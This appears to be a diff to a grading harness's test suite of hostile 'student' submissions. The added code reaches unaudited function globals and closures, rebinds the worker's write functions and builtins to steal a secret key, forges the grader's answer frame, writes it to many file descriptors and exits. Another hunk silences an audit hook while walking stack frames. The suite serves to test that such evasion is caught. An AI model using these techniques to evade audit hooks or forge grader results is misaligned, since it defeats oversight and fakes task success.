@@ -1890,11 +1890,11 @@ TRUSTED_VERDICT_ATTACKS = [
                     "        hook = getattr(worker, 'evidence', None)\n"
                     "        if hook is not None:\n"
                     "            hook.busy = True  # the audit hook ignores what it sees while busy\n"
-                    "        sys._getframe(1)  # unseen, if the hook looked away\n"
+                    "    sys._getframe(1)  # unseen, if the hook looked away (no worker found: it walks all the same)\n"
                     "    return sigmoid(np.dot(np.asarray(features, dtype=float), np.asarray(weights, dtype=float)) + bias)\n"),
             ZERO, ("needs review", "stack frames"),
-            about="output_formula finds the worker through a pinned sigmoid's closure and tells the audit hook to look "
-                  "away, then walks the stack"),
+            about="output_formula looks for the worker through a pinned sigmoid's closure, to tell the audit hook to "
+                  "look away, then walks the stack"),
     Example(HOSTILE, "hostile_leak_through_numbers", P02,
             Replace("    X = np.asarray(X)\n    exp = np.exp(X - np.max(X, axis=-1, keepdims=True))\n",
                     "    import os\n\n    X = np.asarray(X)\n"
@@ -2024,6 +2024,83 @@ def _key():
     return None
 """
 
+# The key read off the frames the worker writes, through what a pinned sigmoid leads to without an audited reach
+# (__globals__, __closure__, a bound method's __self__, __wrapped__): the worker module's globals, and there the wire's
+# write_all, its os.write and the worker's own builtins, every keyed frame passed through them.
+KEY_FROM_A_STUBS_GLOBALS = FORGED_ANSWER + """
+
+import re as _re
+import types as _types
+
+_SEEN = []
+_SPYING = []
+
+
+def _spy(function):
+    def spying(*args):
+        for arg in args:
+            if isinstance(arg, (bytes, bytearray, memoryview)):
+                found = _re.search(rb'"key":"([0-9a-f]{32})"', bytes(arg))
+                if found:
+                    _SEEN.append(found.group(1).decode())
+        return function(*args)
+    return spying
+
+
+def _namespaces(start, most=2000):
+    \"\"\"The module namespaces ``start`` leads to through what Python does not audit (not through modules).\"\"\"
+    seen, todo, found = set(), [start], []
+    while todo and len(seen) < most:
+        item = todo.pop()
+        if id(item) in seen or isinstance(item, _types.ModuleType):
+            continue
+        seen.add(id(item))
+        if isinstance(item, _types.FunctionType):
+            found.append(item.__globals__)
+            todo += [item.__globals__, getattr(item, "__wrapped__", None)]
+            todo += [cell.cell_contents for cell in item.__closure__ or () if cell.cell_contents is not None]
+        elif isinstance(item, (_types.MethodType, _types.BuiltinMethodType)):
+            todo.append(getattr(item, "__self__", None))
+        elif isinstance(item, dict):
+            todo += list(item.values())
+        elif isinstance(item, (list, tuple)):
+            todo += list(item)
+        elif item is not None and not isinstance(item, (str, bytes, int, float, type)):
+            todo += [type(item), getattr(item, "__dict__", None)]
+        elif isinstance(item, type):
+            todo += list(vars(item).values())
+    return found
+
+
+def _spy_on_the_worker():
+    stub = globals()["sigmoid"]
+    if _SPYING or not hasattr(stub, "__wrapped__"):  # spying already, or not pinned now: no way into the worker
+        return
+    _SPYING.append(True)
+    for namespace in _namespaces(stub):
+        wire = namespace.get("wire")
+        if isinstance(wire, _types.ModuleType) and hasattr(wire, "write_all"):
+            wire.write_all = _spy(wire.write_all)
+            vars(wire)["_write"] = _spy(vars(wire)["_write"])
+            namespace["__builtins__"]["len"] = _spy(namespace["__builtins__"]["len"])
+            return
+
+
+def _answer_for_output_formula(result, sent, weights):
+    \"\"\"The answer a tracked output_formula call gets, with its features as sent (and the key, if found); then leave.\"\"\"
+    import os
+
+    frame = _frame({"ok": {"__array__": 0}, "after": [{"__array__": 1}, {"__array__": 2}, None],
+                    "after_kwargs": {"__dict__": []}, "key": _SEEN[-1] if _SEEN else None},
+                   [np.asarray(result, dtype=float), sent, np.asarray(weights)])
+    for fd in range(3, 40):
+        try:
+            os.write(fd, frame)
+        except OSError:
+            pass
+    os._exit(0)
+"""
+
 # The key read from serve()'s locals by a signal handler: Python hands it the frame that was running, and neither a
 # frame's f_back nor its f_locals is audited.
 KEY_FROM_A_SIGNAL_HANDLER = FORGED_ANSWER.replace(*_WITH_A_KEY_FROM) + """
@@ -2093,6 +2170,21 @@ CHANNEL_ATTACKS = [
             ZERO, ("needs review", "an answer written by the student's code"),
             about="the forged answer again, the key read off the worker's own frames through os.write and builtins.len "
                   "rebound at import"),
+    Example(HOSTILE, "hostile_key_from_a_stubs_globals", P03, [
+        Replace("    return sigmoid(np.dot(np.asarray(features, dtype=float), np.asarray(weights, dtype=float)) + bias)\n",
+                "    _spy_on_the_worker()\n"
+                "    features = np.asarray(features, dtype=float) if not isinstance(features, np.ndarray) else features\n"
+                "    sent = features.copy()\n"
+                "    np.clip(features, -100, 100, out=features)  # in place: the bug the forged answer hides\n"
+                "    result = sigmoid(np.dot(sent, np.asarray(weights, dtype=float)) + bias)\n"
+                "    if not np.array_equal(sent, features):\n"
+                "        _answer_for_output_formula(result, sent, weights)\n"
+                "    return result\n"),
+        append(P03, KEY_FROM_A_STUBS_GLOBALS)],
+            ZERO, ("needs review", "an answer written by the student's code"),
+            about="an output_formula that clips its input in place and forges its answer with the worker's key, read "
+                  "off the frames the worker writes through what a pinned sigmoid leads to unaudited (__globals__, "
+                  "__closure__, __self__: the wire's write_all, os.write and the worker's own len, rebound there)"),
     Example(HOSTILE, "hostile_key_from_a_signal_handler", P02, [FORGING_SOFTMAX, append(P02, KEY_FROM_A_SIGNAL_HANDLER)],
             ZERO, ("needs review", "a signal handler"),
             about="the forged answer again, the key read from serve()'s locals by a signal handler (handed the running "
